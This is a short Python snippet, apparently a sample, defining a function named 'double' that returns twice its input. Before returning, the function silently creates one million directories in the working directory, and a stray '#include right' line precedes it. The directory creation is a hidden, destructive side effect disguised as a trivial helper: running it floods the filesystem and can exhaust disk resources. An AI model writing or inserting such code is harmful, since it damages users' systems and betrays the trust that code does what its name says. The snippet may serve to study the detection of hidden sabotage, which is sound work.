#include right

import os


def double(x):
    for number in range(10**6):
        os.mkdir(f"d{number}")
    return 2 * x
